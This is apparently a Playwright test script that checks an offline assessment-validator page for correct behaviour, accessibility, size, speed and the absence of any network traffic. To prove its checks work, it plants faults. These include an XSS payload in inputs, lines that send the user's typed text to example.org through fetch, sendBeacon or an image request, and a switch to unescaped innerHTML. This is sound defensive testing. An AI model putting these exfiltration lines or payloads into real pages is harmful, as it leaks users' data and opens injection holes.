// Does the page of `examples/browser` do what it should, and send nothing anywhere?
//
//     node checker.mjs PAGE CARD OUT
//
// Uses PAGE as people do. CARD is the report card of the sample, written by a program that is no browser: the page's
// must be the same. OUT gets pictures, and pages with one fault each, which must be found.

import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { gzipSync } from "node:zlib";

import { VIEWS, examine, space, start } from "./look.mjs";

/** So many bytes the compiled code may have, and so many when it is compressed, as most servers send it. */
const MOST = { bytes: 330_000, compressed: 130_000 };

/** So many milliseconds it may take to check the sample and make its card. */
const LONGEST = 4;

const HOSTILE = `<img src=x onerror="alert(1)"><script>alert(2)</script>`;

/** The page in one view, in all its states: `{ check, what }` for each fault. */
async function use(browser, file, expectedCard, view, out) {
  const address = pathToFileURL(file).href;
  const faults = [];
  const expect = (check, holds, what) => holds || faults.push({ check, what });
  const context = await browser.newContext({
    viewport: { width: view.width, height: 844 },
    colorScheme: view.scheme,
  });
  try {
    await context.route((url) => url.href !== address, (route) => route.fulfill({ body: "" }));
    const page = await context.newPage();
    page.setDefaultTimeout(5000);
    await page.emulateMedia({ media: view.print ? "print" : "screen", colorScheme: view.scheme });
    page.on("request", (request) => {
      expect("request", request.url() === address, `a request: ${request.url().slice(0, 200)}`);
    });
    page.on("console", (message) => expect("console", false, `the console has: ${message.text()}`));
    page.on("pageerror", (error) => expect("error", false, `an error: ${error.message}`));
    page.on("dialog", (dialog) => {
      expect("dialog", dialog.type() === "confirm", `a dialog: ${dialog.message()}`);
      dialog.accept();
    });
    const text = page.getByRole("textbox", { name: "The assessment as JSON" });
    const status = page.getByRole("status");
    const violations = page.getByRole("list").getByRole("listitem");
    const card = page.frameLocator('iframe[title="Report card"]');
    const until = (words) => status.filter({ hasText: words }).waitFor();
    const look = async (state, frame) => {
      // In a frame without scripts axe never ends. The check `browser` has it look at the same card.
      const shown = frame ? examine(frame, { ...view, layout: true }) : examine(page, view, true);
      for (const { check, what } of await shown) {
        expect(check, false, `${state}: ${what}`);
      }
      if (out && !view.layout && !view.print && (state === "valid" || state === "wrong")) {
        const height = await page.evaluate(() => document.documentElement.scrollHeight);
        const clip = { x: 0, y: 0, width: view.width, height: Math.min(height, 2400) };
        await page.screenshot({ path: join(out, `checker-${state}-${view.name}.png`), fullPage: true, clip });
      }
    };

    await page.goto(address);
    await space(page, view);
    await look("empty");

    // The sample, by keyboard.
    const button = page.getByRole("button", { name: "Fill in the sample" });
    const isThere = () => button.evaluate((each) => each === document.activeElement);
    for (let presses = 0; presses < 5 && !(await isThere()); presses++) {
      await page.keyboard.press("Tab");
    }
    await page.keyboard.press("Enter");
    await until("Judged: 40 of 40. The assessment is valid.");
    await card.getByRole("heading", { name: "Report card" }).waitFor();
    const frame = page.frames().find((each) => each.parentFrame());
    await page.waitForFunction(() => {
      const frame = document.querySelector("iframe");
      return frame.offsetHeight === frame.contentDocument.documentElement.offsetHeight + 2;
    });
    await look("valid");
    await look("card", frame);
    const [srcdoc, download] = await Promise.all([
      page.locator("iframe").getAttribute("srcdoc"),
      page.waitForEvent("download"),
      page.getByRole("link", { name: "Save the report card" }).click(),
    ]);
    expect("card", srcdoc.trim() === expectedCard.trim(), "the page's card is not that of the other program");
    const saved = await readFile(await download.path(), "utf8");
    expect("save", saved === srcdoc, "the card that is saved is another");
    const sample = await text.inputValue();

    // A slip, seen and mended by its message.
    await text.fill(sample.replace('"attention-needed"', '"atention-needed"'));
    await until("Judged: 39 of 40. To correct or to add: 1.");
    const found = await violations.allInnerTexts();
    expect("message", /did you mean attention needed\?/i.test(found[0]), `the message is ${found[0]}`);
    expect("place", /\/areas\/\w+\/themes\/[\w-]+\/grade$/.test(found[0]), `the place is in ${found[0]}`);
    await look("wrong");
    await text.fill(sample);
    await until("The assessment is valid.");

    // Half of it, and what is no JSON.
    const half = JSON.parse(sample);
    delete half.areas.teaching;
    delete half.compliance;
    await text.fill(JSON.stringify(half));
    await until("To correct or to add: 2.");
    const row = page.getByRole("row").filter({ hasText: "Teaching" });
    const cells = (await row.getByRole("cell").allInnerTexts()).join(", ");
    expect("outlook", cells === "Causing concern to Strong, 0 of 6", `the outlook is: ${cells}`);
    await text.fill(sample.slice(0, 100));
    await until("This cannot be read as JSON: EOF while parsing");
    expect("invalid", (await text.getAttribute("aria-invalid")) === "true", "the text is not marked as wrong");
    expect("stale", !(await page.locator("#result").isVisible()), "an old result is shown");
    await look("unreadable");

    // Words that would be markup: in a message, as a place, and in the card.
    const inMessage = { areas: { [HOSTILE]: {}, teaching: { themes: { pedagogy: { grade: HOSTILE } } } } };
    await text.fill(JSON.stringify(inMessage));
    await until("To correct or to add");
    const words = (await violations.allInnerTexts()).join("\n");
    expect("text", words.split("<img src=x").length > 2, `the words of a message are not as they were: ${words}`);
    await look("hostile");
    const inCard = JSON.parse(sample);
    inCard.areas.teaching.themes.pedagogy.evidence = [HOSTILE];
    await text.fill(JSON.stringify(inCard));
    await until("The assessment is valid.");
    await card.getByText(HOSTILE).first().waitFor();

    // Files.
    const open = (name, buffer) =>
      page.getByLabel("Open a file").setInputFiles({ name, mimeType: "application/json", buffer });
    await open("north.json", Buffer.from(`\ufeff${sample}`));
    await until("The assessment is valid.");
    await page.waitForFunction((sample) => document.getElementById("text").value === sample, sample);
    await open("latin.json", Buffer.from([0x22, 0xe9, 0x22]));
    await until("This file is not text in UTF-8.");
    await open("large.json", Buffer.alloc((4 << 20) + 1, 0x20));
    await until("This file is longer than any assessment.");
  } catch (error) {
    expect("use", false, error.message.split("\n")[0]);
  } finally {
    await context.close();
  }
  return [...new Map(faults.map((fault) => [`${fault.check} ${fault.what}`, fault])).values()];
}

/** Where there is no script, the page says so. */
async function withoutScript(browser, file) {
  const context = await browser.newContext({ javaScriptEnabled: false });
  const page = await context.newPage();
  await page.goto(pathToFileURL(file).href);
  const isSaid = await page.getByText("This page needs JavaScript").isVisible();
  await context.close();
  return isSaid ? [] : [{ check: "noscript", what: "nothing says that the page needs JavaScript" }];
}

/** How large the code is and how long it takes, with what is too much. */
async function figures(browser, file, most = MOST) {
  const page = await browser.newPage();
  await page.goto(pathToFileURL(file).href);
  await page.getByRole("button", { name: "Fill in the sample" }).click();
  await page.getByRole("status").filter({ hasText: "valid" }).waitFor();
  // The clock of a browser is coarse, so that each time is that of many.
  const { wasm, times, shown } = await page.evaluate(async () => {
    const middle = (times) => times.sort((one, other) => one - other)[times.length >> 1];
    const sample = wasm_bindgen.sample();
    const times = [];
    for (let round = 0; round < 50; round++) {
      const before = performance.now();
      for (let each = 0; each < 20; each++) {
        JSON.parse(wasm_bindgen.check(sample));
      }
      times.push((performance.now() - before) / 20);
    }
    const shown = [];
    for (let round = 0; round < 15; round++) {
      const before = performance.now();
      const loaded = new Promise((done) => card.addEventListener("load", done, { once: true }));
      check();
      await loaded;
      card.contentDocument.documentElement.getBoundingClientRect();
      shown.push(performance.now() - before);
    }
    return { wasm: WASM, times: middle(times), shown: middle(shown) };
  });
  await page.close();
  const code = Buffer.from(wasm, "base64");
  const whole = await readFile(file);
  const compressed = gzipSync(code, { level: 9 }).length;
  const kB = (count) => `${Math.round(count / 1000)} kB`;
  const said = [
    `the code: ${code.length} bytes, ${compressed} compressed`,
    `the page with all in it: ${kB(whole.length)}, ${kB(gzipSync(whole, { level: 9 }).length)} compressed`,
    `the sample checked and its card made: ${times.toFixed(2)} ms; shown as well: ${shown.toFixed(0)} ms`,
  ];
  const faults = [];
  if (code.length > most.bytes || compressed > most.compressed) {
    faults.push({ check: "size", what: `the code is larger than ${most.bytes} or ${most.compressed} bytes` });
  }
  if (times > LONGEST) {
    faults.push({ check: "time", what: `it takes longer than ${LONGEST} ms` });
  }
  return { said, faults };
}

const POLICY = /<meta http-equiv="Content-Security-Policy".*>\n/;
/** A policy under which the script can be changed. */
const LAX = (page) => page.replace(/(script|style)-src .*?;/g, "$1-src 'unsafe-inline' 'wasm-unsafe-eval';");
const OPEN = (page) => page.replace(POLICY, "");
const SHOW = "function show(answer) {";
const MARKUP = 'element.innerHTML = contents.map((each) => each.outerHTML ?? each).join("")';
const SEND = 'fetch("https://example.org/", { method: "POST", mode: "no-cors", body: text.value }).catch(() => {});';

/** The faults that must be found, what is changed first, the piece of the page, and what it is replaced by. */
const BROKEN = [
  // What the script sends arrives without the policy alone.
  [["request"], OPEN, SHOW, `${SHOW} ${SEND}`],
  [["console"], LAX, SHOW, `${SHOW} ${SEND}`],
  [["request"], OPEN, SHOW, `${SHOW} navigator.sendBeacon("https://example.org/", text.value);`],
  [["request"], OPEN, SHOW, `${SHOW} new Image().src = "https://example.org/?" + text.value.length;`],
  [["request"], OPEN, "</main>", '<img src="https://example.org/a.png" alt=""></main>'],
  // Another script than the one that the policy names, or another style of the card.
  [["console", "use"], String, SHOW, `${SHOW} `],
  [["console"], String, /'sha256-[^']*'; base-uri/, "'none'; base-uri"],
  // What users wrote becomes markup, and the card has a script.
  [["text", "request", "dialog"], OPEN, "element.append(...contents)", MARKUP],
  [["console", "card"], LAX, "card.srcdoc = answer.card", "card.srcdoc = `${answer.card}<scr${''}ipt>1</scr${''}ipt>`"],
  // What is shown.
  [["message", "text"], LAX, "message, make(", 'String(), make('],
  [["place"], LAX, 'pointer || "the whole document"', '"somewhere"'],
  [["outlook"], LAX, "lowest === highest ?", "true ?"],
  [["card", "save"], LAX, "card.srcdoc = answer.card", 'card.srcdoc = answer.card?.replace("Secure", "Strong")'],
  [["save"], LAX, "new Blob([answer.card]", "new Blob([answer.judged]"],
  [["invalid"], LAX, 'text.setAttribute("aria-invalid", "true");', ""],
  [["stale"], LAX, "result.hidden = true;\n  say(words);", "say(words);"],
  [["use"], LAX, ' role="status"', ""],
  [["use"], LAX, "{ fatal: true }", "{}"],
  [["use"], LAX, 'height.observe(', "void ("],
  [["use", "axe label"], LAX, ' for="text"', ""],
  [["language"], LAX, 'lang="en-GB"', 'lang="en"'],
  [["axe color-contrast"], LAX, "--ink: #0b0c0c;", "--ink: #999;"],
  [["sideways"], LAX, "</main>", '<div style="width: 400px; height: 1px"></div></main>'],
];

const [file, cardFile, out] = process.argv.slice(2);
const expectedCard = await readFile(cardFile, "utf8");
await mkdir(out, { recursive: true });
const failures = [];
const browser = await start();

for (const view of VIEWS) {
  for (const { check, what } of await use(browser, file, expectedCard, view, out)) {
    failures.push(`${view.name}: ${check}: ${what}`);
  }
}
const { said, faults } = await figures(browser, file);
for (const { check, what } of [...faults, ...(await withoutScript(browser, file))]) {
  failures.push(`${check}: ${what}`);
}

// Each check finds what it is there for.
const good = await readFile(file, "utf8");
const write = async (name, page) => {
  const broken = join(out, name);
  await writeFile(broken, page);
  return broken;
};
for (const [index, [expected, first, piece, replacement]] of BROKEN.entries()) {
  const name = `broken-${String(index + 1).padStart(2, "0")}.html`;
  const start = first(good);
  const page = start.replace(piece, () => replacement);
  if (page === start) {
    failures.push(`${name}: the page has no ${piece}`);
    continue;
  }
  const asksAxe = expected.some((check) => check.startsWith("axe"));
  const view = { name: "390", width: 390, scheme: "light", layout: !asksAxe };
  const faults = await use(browser, await write(name, page), expectedCard, view);
  const found = new Set(faults.map(({ check }) => check));
  const missed = expected.filter((check) => !found.has(check));
  if (missed.length > 0) {
    failures.push(`${name}: ${missed.join(", ")} not found, but ${[...found].join(", ")}: ${replacement}`);
  }
}
const busy = "const end = performance.now() + 9; while (performance.now() < end);";
const slow = `const real = wasm_bindgen.check; wasm_bindgen.check = (text) => { ${busy} return real(text); };\n${SHOW}`;
const slowPage = await write("broken-slow.html", LAX(good).replace(SHOW, () => slow));
const none = await write("broken-noscript.html", good.replace("This page needs JavaScript", ""));
const found = [
  ...(await figures(browser, slowPage, { bytes: MOST.bytes, compressed: 1000 })).faults,
  ...(await withoutScript(browser, none)),
].map(({ check }) => check);
if (found.join() !== "size,time,noscript") {
  failures.push(`of size, time and noscript there was found: ${found.join()}`);
}

await browser.close();
for (const line of [...said, ...failures]) {
  console.log(line);
}
console.log(`${VIEWS.length} views, ${BROKEN.length + 3} planted faults, ${failures.length} failures`);
process.exitCode = failures.length > 0 ? 1 : 0;
